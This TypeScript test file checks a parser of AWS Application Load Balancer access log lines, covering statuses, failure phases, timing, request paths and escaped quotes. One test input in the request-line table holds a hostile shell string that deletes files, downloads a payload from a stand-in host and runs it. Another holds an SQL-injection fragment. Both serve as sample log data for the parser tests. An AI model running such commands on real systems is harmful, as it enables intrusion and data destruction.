import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { AccessLine, LoggedLine } from '../../../src/logs/access-line.ts'
import { createAccessLineReader } from '../../../src/logs/alb/access-line.ts'
import { type AlbLine, albLine, defaultTargetGroupArn } from '../../fakes/logs/alb-lines.ts'

function read(line: string | Buffer, balancer: string | null = null): AccessLine {
  const bytes = Buffer.from(line)
  return createAccessLineReader(balancer)(bytes, 0, bytes.length)
}

function told(given: Partial<AlbLine>): LoggedLine {
  const line = read(albLine(given))
  if (typeof line === 'string') throw new Error(`${line}: ${albLine(given)}`)
  return line
}

const noon = Date.UTC(2026, 8, 1, 12)
const undispatched = { triple: [-1, -1, -1] } as const

describe('an answered request', () => {
  test('is counted with its time, pool, backend and path', () => {
    expect(told({})).toEqual({
      balancer: 'app/shop/50dc6c495c0c9188',
      at: noon,
      status: 200,
      origin: 'backend',
      backend: '10.0.1.10:8080',
      pool: defaultTargetGroupArn,
      path: 'GET /cart',
      phase: 'unknown',
      reason: null,
      waitSeconds: null,
      durationSeconds: null,
      sample: '',
    })
  })

  test.each([17, 18, 25, 29, 30, 33, 34, 36])('is read from a line of %i fields', (fields) => {
    expect(told({ fields, target: '10.0.1.10:8080' })).toMatchObject({ status: 200, pool: defaultTargetGroupArn })
  })

  test('is read past fields nobody knows yet', () => {
    expect(read(`${albLine({ fields: 36 })} "-" 7 "a \\"future\\" field" x`)).toMatchObject({ status: 200 })
  })

  test.each(['http', 'https', 'h2', 'grpcs', 'ws', 'wss', 'h3', 'quic-v9'])('of type %s', (type) => {
    expect(told({ type })).toMatchObject({ status: 200 })
  })

  test('is timed by the answer, to the millisecond', () => {
    expect(told({ time: '2026-09-01T12:00:59.999999Z' }).at).toBe(noon + 59_999)
    const read = createAccessLineReader(null)
    const times = ['12:00:01.5', '12:01:00', '12:00:59.123', '12:01:00.000001'].map((time) => {
      const bytes = Buffer.from(albLine().replace('12:00:00.000000', time))
      return (read(bytes, 0, bytes.length) as LoggedLine).at - noon
    })
    expect(times).toEqual([1500, 60_000, 59_123, 60_000])
  })
})

describe('who answered', () => {
  test.each([
    [502, 502, 'backend'],
    [502, null, 'gateway'],
    [502, 200, 'gateway'],
    [500, 500, 'backend'],
    [460, null, 'gateway'],
    [464, null, 'gateway'],
    [301, null, 'gateway'],
    [null, null, 'gateway'],
  ])('status %s with target status %s: the %s', (status, targetStatus, origin) => {
    expect(told({ status, targetStatus })).toMatchObject({ status: status ?? 0, origin })
  })
})

describe('a failed request', () => {
  test.each([
    [[-1, -1, -1], 'not-dispatched', null],
    [[0.001, -1, -1], 'no-answer', null],
    [[0.001, 4.205, -1], 'cut-off', 4.205],
    [[0.001, 0, -1], 'cut-off', 0],
    [[0, 0.001, 0], 'answered', 0.001],
    [[-1, 0.001, 0], 'unknown', null],
  ] as const)('with times %j got as far as: %s', (triple, phase, waitSeconds) => {
    expect(told({ status: 502, targetStatus: null, triple })).toMatchObject({ phase, waitSeconds })
  })

  test('lasted from its arrival to the answer', () => {
    expect(told({ ...undispatched, status: 504 })).toMatchObject({ durationSeconds: 10 })
    expect(told({ status: 502, triple: [0.001, 4.2, -1], createdAt: '2026-09-01T11:59:55.500Z' }).durationSeconds).toBe(4.5)
  })

  test('lasted as long as its stages where the line does not tell when it arrived, if it went through all', () => {
    expect(told({ status: 502, triple: [0.25, 1, 0.25], fields: 18 }).durationSeconds).toBe(1.5)
    expect(told({ status: 502, triple: [0.25, 1, -1], fields: 18 }).durationSeconds).toBeNull()
    expect(told({ ...undispatched, status: 502, createdAt: '2026-09-01T12:00:01.000Z' }).durationSeconds).toBeNull()
  })

  test('carries the reason and the line', () => {
    const lambda = {
      status: 502,
      targetStatus: null,
      target: null,
      triple: [0, 0.001, 0],
      errorReason: 'LambdaInvalidResponse',
    } as const
    expect(told(lambda)).toMatchObject({ backend: null, reason: 'LambdaInvalidResponse', sample: albLine(lambda) })
    expect(told({ ...undispatched, status: 502 }).reason).toBeNull()
  })

  test('has no reason where the fields behind the target group lie otherwise', () => {
    expect(told({ ...lambdaLine, actions: 'forward" "a b' }).reason).toBeNull()
  })

  test('keeps its reason behind escaped quotes and missing spaces', () => {
    expect(told({ ...lambdaLine, redirectUrl: 'https://x/?a=\\"b\\" c\\\\' }).reason).toBe('LambdaUnhandled')
    const glued = albLine(lambdaLine).replace('" 0 2026', '"0 2026')
    expect(read(glued)).toMatchObject({ reason: 'LambdaUnhandled', durationSeconds: 0.001 })
  })
})

const lambdaLine = {
  status: 502,
  targetStatus: null,
  target: null,
  triple: [0, 0.001, 0],
  errorReason: 'LambdaUnhandled',
} as const

describe('addresses', () => {
  test('of IPv6 backends stay as they are', () => {
    expect(told({ client: '2001:db8::1:50599', target: 'fd00:1:2::ed83:f46:80' }).backend).toBe('fd00:1:2::ed83:f46:80')
  })

  test('that are missing are null', () => {
    expect(told({ target: null, targetGroupArn: null, status: 301, targetStatus: null })).toMatchObject({
      backend: null,
      pool: null,
    })
  })

  test('of other partitions are pools too', () => {
    const arn = 'arn:aws-cn:elasticloadbalancing:cn-north-1:111122223333:targetgroup/web/73e2d6bc24d8a067'
    expect(told({ targetGroupArn: arn }).pool).toBe(arn)
  })
})

describe('the request line', () => {
  test.each([
    ['GET https://shop.example.com:443/cart?id=1#top HTTP/1.1', 'GET /cart'],
    ['GET https://shop.example.com:443?id=1 HTTP/1.1', 'GET /'],
    ['GET https://shop.example.com:443 HTTP/2.0', 'GET /'],
    ['POST /relative/path?x=https://y/z HTTP/1.1', 'POST /relative/path'],
    ['GET http://[::ffff:a9fe:a9fe]:443/latest HTTP/1.1', 'GET /latest'],
    ['GET http://x:80/shell?cd+/tmp;rm+-rf+*;wget+ a.example/jaws;sh+/tmp/jaws HTTP/1.1', 'GET /shell'],
    ['GET https://www.example.com]-(select 0 where 1=1)|[www.example.com:443/a b/c d HTTP/1.1', 'GET /a b/c d'],
    ['GET https://x:443/bar\\x22baz HTTP/2.0', 'GET /bar\\x22baz'],
    ['GET https://x:443/a HTTP/1.0 ', 'GET /a'],
    ['- http://www.example.com:80- -', '- /'],
    ['- http://www.example.com:80-/ ', '- /'],
    ['- http://www.example.com:8080- ', '- /'],
    ['- - -', '- /'],
    ['- - - ', '- /'],
    ['', ' /'],
    ['PROPFIND', 'PROPFIND /'],
    ['\\x16\\x03\\x01 HTTP/1.1', '\\x16\\x03\\x01 /'],
    ['M-SEARCH https://x:443/* HTTP/1.1', 'M-SEARCH /*'],
    ['GET https://x:443/ü HTTP/1.1', 'GET /ü'],
  ])('%j asks for %j', (request, path) => {
    expect(told({ request }).path).toBe(path)
  })
})

describe('quotes inside quotes', () => {
  const agents = [
    'say \\"hi\\"',
    'say "hi" twice',
    '"',
    '\\"',
    'ends in a backslash\\',
    '\\\\',
    'a\\x22b',
    '" "',
    '502 502 -',
    '" - - -',
  ]
  test.each(agents)('in the user agent: %j', (userAgent) => {
    expect(told({ userAgent, status: 502, triple: [0, 1, -1] })).toMatchObject({
      path: 'GET /cart',
      pool: defaultTargetGroupArn,
      phase: 'cut-off',
    })
  })

  test.each(['GET https://x:443/a?q=\\"b\\" HTTP/1.1', 'GET https://x:443/a?q="b" HTTP/1.1', 'GET https://x:443/a?q=b\\'])(
    'in the request: %j',
    (request) => {
      expect(told({ request })).toMatchObject({ path: 'GET /a', pool: defaultTargetGroupArn })
    },
  )

  test('escaped as a load balancer does, never hide or forge a field', () => {
    const escaped = fc.string({ unit: 'grapheme-ascii' }).map((text) => text.replaceAll('\\', '\\\\').replaceAll('"', '\\"'))
    fc.assert(
      fc.property(escaped, escaped, (query, userAgent) => {
        const line = told({ request: `GET https://x:443/a?${query} HTTP/1.1`, userAgent, status: 502, triple: [0, 1.5, -1] })
        expect(line).toMatchObject({ path: 'GET /a', pool: defaultTargetGroupArn, waitSeconds: 1.5, status: 502 })
      }),
    )
  })
})

describe('what is no such line', () => {
  test.each([
    [
      'an NLB line',
      'tls 2.0 2026-09-01T12:00:00 net/tcp-front/c6e77e28c25b2234 g3d4b5e8bb8464cd 192.0.2.39:2817 10.0.0.1:80 5 2 98 246 - - -',
    ],
    [
      'a connection-log line',
      '2026-09-01T12:00:00.514108Z 192.0.2.39 36280 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 4.036 "CN=a" - - Success',
    ],
    [
      'a Classic Load Balancer line',
      '2026-09-01T12:00:00.945958Z classic 192.0.2.39:2817 10.0.0.1:80 0.1 0.2 0.3 200 200 0 57 "GET http://x:80/ HTTP/1.1"',
    ],
    ['a health-check line', 'http 2026-09-01T12:00:00.875678Z 0.019584011 172.31.20.97:80 web PASS 200 -'],
    ['the permission test file', 'Enable AccessLog for ELB: shop at 2026-09-01T12:00:00Z'],
    ['an ALB line about an NLB', albLine({ balancer: 'net/front/c6e77e28c25b2234' })],
  ])('%s is foreign', (_, line) => {
    expect(read(line)).toBe('foreign')
  })

  test.each([
    ['prose', 'hello'],
    ['fields without quotes', 'a b c d e f g h i j k l m n o p q r s t'],
    ['binary', Buffer.from([0, 255, 254, 31, 139, 0, 32, 32, 34])],
    ['a time of another kind', albLine().replace('2026-09-01T12:00:00.000000Z', '01/Sep/2026:12:00:00')],
    ['an impossible time', albLine().replace('2026-09-01T12:00:00.000000Z', '2026-13-01T12:00:00.000000Z')],
    ['a status of four digits', albLine().replace(' 200 200 ', ' 2000 200 ')],
    ['a status in words', albLine().replace(' 200 200 ', ' abc 200 ')],
    ['an empty field', albLine().replace(' app/', '  app/')],
  ])('%s is malformed', (_, line) => {
    expect(read(line)).toBe('malformed')
  })

  test('a cut line is malformed until its target group is whole', () => {
    const line = albLine({ fields: 36 })
    const whole = line.indexOf(defaultTargetGroupArn) + defaultTargetGroupArn.length
    for (let length = 1; length < whole; length += 1) expect(read(line.slice(0, length))).toBe('malformed')
    for (let length = whole; length <= line.length; length += 1)
      expect(read(line.slice(0, length))).toMatchObject({ status: 200 })
  })

  test("another load balancer's lines are foreign when one is asked for", () => {
    expect(read(albLine(), 'app/shop/50dc6c495c0c9188')).toMatchObject({ status: 200 })
    expect(read(albLine(), 'app/shop/50dc6c495c0c918')).toBe('foreign')
  })

  test('never throws, whatever the bytes', () => {
    const bytes = fc.oneof(
      fc.uint8Array({ maxLength: 300 }).map((given) => Buffer.from(given)),
      fc.tuple(fc.nat(700), fc.uint8Array({ minLength: 1, maxLength: 40 })).map(([at, given]) => {
        const line = Buffer.from(albLine({ status: 502, triple: [0, 1, -1] }))
        line.set(given.subarray(0, Math.max(0, line.length - at)), Math.min(at, line.length - 1))
        return line
      }),
    )
    const read = createAccessLineReader('app/shop/50dc6c495c0c9188')
    fc.assert(
      fc.property(bytes, (given) => {
        const line = read(given, 0, given.length)
        if (typeof line === 'object') {
          expect(Number.isInteger(line.at) && line.status >= 0 && line.status <= 999).toBe(true)
          expect(() => new Date(line.at).toISOString()).not.toThrow()
        }
      }),
      { numRuns: 5000 },
    )
  })

  test('reads its line and nothing around it', () => {
    const around = Buffer.from(`"x" \\ ${albLine()}" - - arn:aws:x "`)
    const start = around.indexOf('https 2026')
    expect(createAccessLineReader(null)(around, start, start + albLine().length)).toEqual(read(albLine()))
  })
})
